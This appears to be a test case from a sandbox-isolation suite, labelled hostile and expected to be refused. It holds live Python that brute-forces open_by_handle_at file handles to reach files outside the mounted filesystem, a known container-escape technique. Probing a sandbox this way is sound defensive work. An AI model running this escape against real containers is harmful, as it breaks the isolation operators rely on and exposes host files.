# tries: open_by_handle_at, which finds a file by its number whatever is mounted where
# holds: refused: it needs a capability that nobody has
# kind: hostile
# shows: tried: -1 [1-9]

# %%
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
handle = (ctypes.c_byte * 136)()
ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
mount = ctypes.c_int()
libc.syscall(303, -100, b"/", handle, ctypes.byref(mount), 0)  # name_to_handle_at
root = libc.open(b"/", 0)
for number in range(2, 200):
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 8
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[1] = 1
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[2] = number
    found = libc.syscall(304, root, handle, 0)  # open_by_handle_at
    if found >= 0:
        break
print("tried:", found, ctypes.get_errno())
